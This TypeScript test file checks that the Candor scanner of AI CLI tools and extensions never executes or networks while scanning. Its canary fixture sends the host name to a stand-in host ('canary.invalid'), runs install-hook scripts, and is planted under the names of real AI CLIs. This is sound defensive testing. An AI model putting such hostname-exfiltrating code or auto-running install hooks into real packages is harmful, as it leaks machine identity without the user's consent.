import * as assert from 'assert';
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { buildBunExecutable, buildSeaExecutable, ensureBuildTools, makeZip, npmPack, tempDir, write } from '../../support/host-fixtures';
import { fetchNpmPackage, REAL_TOOLS } from '../../support/npm-fixtures';

/*
 * Candor never runs the code it scans and never touches the network. A canary whose top-level
 * code, install scripts and launcher would each write a marker is scanned in every form Candor
 * reads, by the built CLI, with every network, process, native-code and run-time-compilation path
 * trapped (test/hardening/trap.js, preloaded into the process and its workers): the marker never
 * appears and the trap never fires. Real bundles and Candor's own bundle are scanned the same way.
 */
const ROOT = path.resolve(__dirname, '..', '..', '..', '..');
const CLI = path.join(ROOT, 'dist', 'cli.js');
const TRAP = path.join(ROOT, 'test', 'hardening', 'trap.js');

describe('never executing, never online (the built CLI, trapped)', function () {
  this.timeout(15 * 60 * 1000);
  let dir: string;
  let marker: string;
  let log: string;
  let forms: Record<string, string>;
  let home: string;
  let binDir: string;

  /** The built CLI with the trap preloaded; its JSON output and whatever the trap recorded. */
  function candor(args: string[], env: NodeJS.ProcessEnv = {}): { code: number; json: { reports?: unknown[] } & Record<string, unknown>; stderr: string; trapped: string } {
    fs.rmSync(log, { force: true });
    const r = spawnSync(process.execPath, ['--require', TRAP, CLI, ...args], {
      cwd: dir,
      encoding: 'utf8',
      maxBuffer: 512 * 1024 * 1024,
      env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env, CANDOR_TRAP_LOG: log, XDG_CACHE_HOME: path.join(dir, 'cache') },
    });
    const trapped = fs.existsSync(log) ? fs.readFileSync(log, 'utf8') : '';
    let json = {};
    try {
      json = JSON.parse(r.stdout);
    } catch {
      /* not JSON: the assertions below say so */
    }
    return { code: r.status ?? -1, json, stderr: r.stderr, trapped };
  }

  const canary = (m: string, where: string) =>
    `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(m)}, "executed: ${where} " + __filename);\nconst os = require("os");\nfetch("https://canary.invalid/ping?host=" + os.hostname());\nmodule.exports = { activate() {} };\n`;

  before(async () => {
    assert.ok(fs.existsSync(CLI), 'dist/cli.js is built (npm run build)');
    dir = tempDir('candor-canary-');
    marker = path.join(dir, 'EXECUTED');
    log = path.join(dir, 'trap.log');
    const run = `node -e "require('fs').writeFileSync(process.argv[1], 'install script')" ${JSON.stringify(marker)}`;
    const pkg = path.join(dir, 'pkg');
    write(path.join(pkg, 'package.json'), JSON.stringify({ name: 'canary-ai-cli', version: '1.0.0', bin: { 'canary-ai': 'cli.js' }, scripts: { preinstall: run, install: run, postinstall: run, prepare: run, prepack: run } }));
    write(path.join(pkg, 'cli.js'), canary(marker, 'package'));
    fs.chmodSync(path.join(pkg, 'cli.js'), 0o755);
    const tgz = npmPack(pkg, dir);
    const vsix = await makeZip(path.join(dir, 'canary.vsix'), [
      { name: 'extension.vsixmanifest', data: '<PackageManifest/>' },
      { name: 'extension/package.json', data: JSON.stringify({ name: 'canary', publisher: 'acme', version: '1.0.0', main: './extension.js', engines: { vscode: '^1.90.0' }, activationEvents: ['*'] }) },
      { name: 'extension/extension.js', data: canary(marker, 'vsix') },
    ]);
    ensureBuildTools();
    const exes = path.join(dir, 'exes');
    fs.mkdirSync(exes);
    const bun = buildBunExecutable(exes, canary(marker, 'bun'), 'canary-bun');
    const sea = buildSeaExecutable(exes, canary(marker, 'sea'), 'canary-sea');
    assert.ok(!fs.existsSync(marker), 'building the fixtures ran nothing');
    forms = { file: write(path.join(dir, 'canary.js'), canary(marker, 'file')), folder: pkg, tgz, vsix, bun, sea };

    // A machine where the canary is installed: an editor extension, an npm global on PATH, and
    // the Bun and SEA builds on PATH under names of AI CLIs.
    home = path.join(dir, 'home');
    const ext = path.join(home, '.vscode', 'extensions', 'acme.canary-1.0.0');
    write(path.join(ext, 'package.json'), JSON.stringify({ name: 'canary', publisher: 'acme', version: '1.0.0', main: './extension.js', engines: { vscode: '^1.90.0' }, contributes: { chatParticipants: [{ id: 'canary' }] } }));
    write(path.join(ext, 'extension.js'), canary(marker, 'extension'));
    // Installed globally under the name of a known AI CLI, the way `npm install -g` lays it out.
    const prefix = path.join(home, '.npm-global');
    const installed = path.join(prefix, 'lib', 'node_modules', '@google', 'gemini-cli');
    fs.cpSync(pkg, installed, { recursive: true });
    write(path.join(installed, 'package.json'), JSON.stringify({ name: '@google/gemini-cli', version: '0.61.0', bin: { gemini: 'cli.js' }, scripts: { postinstall: run } }));
    binDir = path.join(prefix, 'bin');
    fs.mkdirSync(binDir, { recursive: true });
    fs.symlinkSync(path.join('..', 'lib', 'node_modules', '@google', 'gemini-cli', 'cli.js'), path.join(binDir, 'gemini'));
    fs.copyFileSync(bun, path.join(binDir, 'opencode'));
    fs.copyFileSync(sea, path.join(binDir, 'copilot'));
    for (const b of ['opencode', 'copilot']) fs.chmodSync(path.join(binDir, b), 0o755);
    write(path.join(home, '.npmrc'), `prefix=${prefix}\n`);
  });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('has a trap that catches a request, a command, native code and a foreign worker', () => {
    for (const code of [
      "require('https').get('https://example.invalid/')",
      "fetch('https://example.invalid/')",
      "require('child_process').execSync('true')",
      "require('dns').lookup('example.invalid', () => {})",
      "new (require('worker_threads').Worker)('console.log(1)', { eval: true })",
      "require('vm').runInNewContext('1')",
    ]) {
      fs.rmSync(log, { force: true });
      const r = spawnSync(process.execPath, ['--require', TRAP, '-e', code], { encoding: 'utf8', env: { PATH: process.env.PATH, CANDOR_TRAP_LOG: log } });
      assert.notStrictEqual(r.status, 0, code);
      assert.match(fs.readFileSync(log, 'utf8'), /^(https\.get|fetch|child_process\.execSync|dns\.lookup|Worker |vm\.runInNewContext)/, code);
    }
  });

  for (const form of ['file', 'folder', 'tgz', 'vsix', 'bun', 'sea']) {
    it(`scans the canary as a ${form} without running it or going online`, () => {
      const r = candor(['scan', '-f', 'json', forms[form]]);
      assert.strictEqual(r.trapped, '', r.trapped);
      assert.ok(!fs.existsSync(marker), fs.existsSync(marker) ? fs.readFileSync(marker, 'utf8') : '');
      const rep = r.json as { findings?: { ruleId: string; location: { path: string } }[] };
      assert.ok(rep.findings?.some((f) => f.ruleId === 'host-identity-sent'), `the canary was read: ${r.stderr.slice(0, 500)}`);
    });
  }

  it('discovers the canary where it is installed (editor extension, npm global, Bun and SEA builds on PATH) and scans it offline', () => {
    const r = candor(['scan', '--installed', '-f', 'json'], { HOME: home, PATH: `${binDir}${path.delimiter}${path.dirname(process.execPath)}` });
    assert.strictEqual(r.trapped, '', r.trapped);
    assert.ok(!fs.existsSync(marker));
    const reports = (r.json.reports ?? [r.json]) as { tool?: { installPath: string }; findings: { ruleId: string }[] }[];
    const read = reports.filter((x) => x.findings.some((f) => f.ruleId === 'host-identity-sent')).map((x) => x.tool?.installPath ?? '');
    assert.ok(read.some((p) => p.includes('acme.canary')), `extension: ${read.join(', ')}`);
    assert.ok(read.some((p) => p.includes('gemini-cli')), `npm global: ${read.join(', ')}`);
    assert.ok(read.some((p) => p.endsWith('opencode')), `Bun build: ${read.join(', ')}`);
    assert.ok(read.some((p) => p.endsWith('copilot')), `SEA build: ${read.join(', ')}`);
  });

  it('scans real AI CLIs from the npm registry offline (npm bundles, a Bun build, a Node SEA build)', () => {
    // The packages the real-bundle tests fetch: two npm bundles, a Bun build and a Node SEA build.
    const targets: [string, string][] = [
      ['@google/gemini-cli@0.61.0', fetchNpmPackage('@google/gemini-cli@0.61.0')],
      ['@qwen-code/qwen-code@0.15.10', fetchNpmPackage('@qwen-code/qwen-code@0.15.10')],
      [REAL_TOOLS.claude.spec, path.join(fetchNpmPackage(REAL_TOOLS.claude.spec), REAL_TOOLS.claude.bin)],
      [REAL_TOOLS.copilot.spec, path.join(fetchNpmPackage(REAL_TOOLS.copilot.spec), REAL_TOOLS.copilot.bin)],
    ];
    for (const [spec, target] of targets) {
      const r = candor(['scan', '-f', 'json', target]);
      assert.strictEqual(r.trapped, '', `${spec}: ${r.trapped}`);
      assert.ok(((r.json as { findings?: unknown[] }).findings ?? []).length > 0, `${spec} was read`);
    }
  });

  it("scanned by itself, Candor's own bundle makes no request, runs no command and reads only the variables the README declares", () => {
    const r = candor(['scan', '-f', 'json', CLI, path.join(ROOT, 'dist', 'worker.js'), path.join(ROOT, 'dist', 'extension.js')]);
    assert.strictEqual(r.trapped, '');
    const rep = r.json as { inventory: { network: string[]; commands: string[]; envVars: Record<string, string> }; findings: { severity: string; ruleId: string; message: string }[] };
    assert.deepStrictEqual(rep.inventory.network, []);
    assert.deepStrictEqual(rep.inventory.commands, []);
    assert.deepStrictEqual(rep.findings.filter((f) => f.severity !== 'info').map((f) => `${f.ruleId}: ${f.message}`), []);
    const readme = fs.readFileSync(path.join(ROOT, 'README.md'), 'utf8');
    const declared = /<!-- candor-reads -->([\s\S]*?)<!-- \/candor-reads -->/.exec(readme)?.[1] ?? '';
    const names = new Set([...declared.matchAll(/`([A-Za-z_][A-Za-z0-9_]*)`/g)].map((m) => m[1]));
    assert.ok(names.size > 5, 'the README lists what Candor reads');
    assert.deepStrictEqual(Object.keys(rep.inventory.envVars).filter((n) => !names.has(n)), []);
  });
});
